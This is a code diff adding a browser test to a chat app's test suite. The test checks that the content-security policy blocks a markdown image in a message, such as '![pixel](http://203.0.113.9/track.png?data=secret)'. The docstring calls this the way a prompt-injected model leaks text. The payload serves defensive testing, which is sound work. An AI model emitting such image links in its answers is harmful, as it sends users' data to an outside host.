@@ -660,6 +660,28 @@ def test_an_answer_asked_while_another_streams_starts_at_once(server, browser):
         page.context.close()
 
 
+def test_a_markdown_image_in_a_message_is_not_fetched(server, browser):
+    """A message (or an answer copying it) with ``![x](http://host/pixel?data=...)`` made the browser
+    fetch that URL: how a prompt-injected model leaks text. Images may come only from this server."""
+    page = new_page(browser, server)
+    response = page.goto(server.url)
+    assert "img-src 'self' data: blob:" in (response.headers.get("content-security-policy") or "")
+    page.wait_for_selector("#chat-input")
+    wait_model_ready(page, server)
+    choose_profile(page, "Spam check")
+    failures, answered = {}, []
+    page.on("requestfailed", lambda r: failures.__setitem__(r.url, r.failure))
+    page.on("response", lambda r: answered.append(r.url) if "203.0.113.9" in r.url else None)
+    send(page, "Hi ![pixel](http://203.0.113.9/track.png?data=secret)")
+    answers(page).filter(has_text="probability").first.wait_for(timeout=ANSWER_TIMEOUT * 1000)
+    page.wait_for_timeout(500)
+    # the browser refuses it before any connection (Playwright still lists the refused request)
+    url = "http://203.0.113.9/track.png?data=secret"
+    assert "csp" in (failures.get(url) or "").lower() and not answered, (failures, answered)
+    OUTSIDE.remove(url)  # refused, not sent: the last test checks that nothing else left the page
+    page.context.close()
+
+
 def test_nothing_left_this_machine_and_no_message_text_in_the_log(server):
     assert OUTSIDE == [], f"the page requested other hosts: {OUTSIDE[:5]}"
     log = server.log_text()
